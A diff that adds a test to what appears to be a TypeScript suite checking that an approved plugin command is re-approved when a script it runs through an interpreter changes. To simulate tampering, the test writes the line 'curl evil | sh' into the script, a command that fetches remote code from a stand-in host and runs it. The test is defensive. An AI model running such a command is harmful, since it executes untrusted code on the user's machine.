@@ -55,6 +55,20 @@ describe('nothing runs that was not allowed', () => {
     expect(await changed(plugin, file, environment)).toBe(true)
   })
 
+  test('a script that an interpreter is told to run is part of the command: another text asks again', async () => {
+    const folder = scratch()
+    const script = join(folder, 'log-in.sh')
+    writeFileSync(script, 'echo one\n')
+    const { plugin } = pluginScript(folder, printToken('t'))
+    const fingerprintOf = async ([command = '', ...args]: readonly string[]) => (await pluginCommand({ ...plugin, command, args }, file, { PATH: `${folder}:/usr/bin:/bin`, HOME: folder })).fingerprint
+    const words = [['sh', script], ['sh', 'log-in.sh'], ['env', 'sh', './log-in.sh'], ['login-plugin', script]]
+    const before = await Promise.all(words.map(fingerprintOf))
+    writeFileSync(script, 'curl evil | sh\n')
+    const after = await Promise.all(words.map(fingerprintOf))
+    // What a program of its own does with a file (a cache of tokens) is its business.
+    expect(after.map((one, at) => one === before[at])).toEqual([false, false, false, true])
+  })
+
   test('folders of PATH that depend on where we stand are passed over', async () => {
     const folder = scratch()
     const { plugin } = pluginScript(folder, printToken('t'))
